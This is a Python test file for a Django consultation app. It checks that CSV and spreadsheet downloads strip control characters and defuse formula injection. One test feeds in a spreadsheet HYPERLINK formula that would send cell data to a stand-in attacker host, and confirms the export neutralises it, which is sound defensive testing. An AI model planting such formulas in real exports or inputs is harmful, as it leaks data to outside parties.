"""Text that would break the responses' downloads: a control character in an anonymous answer
(a workbook cannot hold it), and a question whose text a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from commissioning.engagement import services
from commissioning.engagement.models import Answer
from tests.engagement.test_pages import answers, respond_url

pytestmark = pytest.mark.django_db

HOME = "203.0.113.7"


def export_url(consultation, extension):
    return reverse("engagement:consultation_export", args=[consultation.pk, extension])


def downloaded_csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


def test_a_control_character_in_an_anonymous_answer_is_cleaned_and_the_workbook_downloads(
    client, commissioner, make_consultation
):
    consultation = make_consultation()
    sent = client.post(
        respond_url(consultation),
        answers(consultation, text="Lunch\x01 clubs\x0b keep\r\nmy mother\x00 going."),
        REMOTE_ADDR=HOME,
    )
    assert sent.status_code == 302
    [written] = Answer.objects.exclude(text="")
    assert written.text == "Lunch clubs keep\r\nmy mother going."

    client.force_login(commissioner)
    response = client.get(export_url(consultation, "xlsx"))
    assert response.status_code == 200
    values = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert values[1][5] == "Lunch clubs keep\r\nmy mother going."


def test_answers_stored_with_control_characters_still_download(
    client, commissioner, make_consultation
):
    consultation = make_consultation()
    client.post(respond_url(consultation), answers(consultation, text="Trips"), REMOTE_ADDR=HOME)
    # Stored before the cleaning on the way in, or by a path that skipped it.
    Answer.objects.filter(text="Trips").update(text="=Trips\x01 out\x1f\x02")

    client.force_login(commissioner)
    response = client.get(export_url(consultation, "xlsx"))
    assert response.status_code == 200
    values = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert values[1][5] == "'=Trips out"

    response = client.get(export_url(consultation, "csv"))
    assert response.status_code == 200
    assert downloaded_csv(response)[1][5] == "'=Trips out"


def test_a_question_that_looks_like_a_formula_is_text_in_the_csv_header(
    client, commissioner, make_consultation
):
    consultation = make_consultation(publish=False)
    formula = '=HYPERLINK("https://attacker.example/?"&A2,"More about the proposal")'
    for text in (formula, "+1 more thing?", "-ish?", "@home?"):
        services.save_question(
            actor=commissioner, consultation=consultation, kind="free_text", text=text
        )
    services.publish_consultation(actor=commissioner, consultation=consultation)

    client.force_login(commissioner)
    response = client.get(export_url(consultation, "csv"))
    assert response.status_code == 200
    header = downloaded_csv(response)[0]
    assert header[-4:] == ["'" + formula, "'+1 more thing?", "'-ish?", "'@home?"]

    response = client.get(export_url(consultation, "xlsx"))
    header = next(load_workbook(io.BytesIO(response.content)).active.values)
    assert header[-4:] == (
        "'" + formula,
        "'+1 more thing?",
        "'-ish?",
        "'@home?",
    )
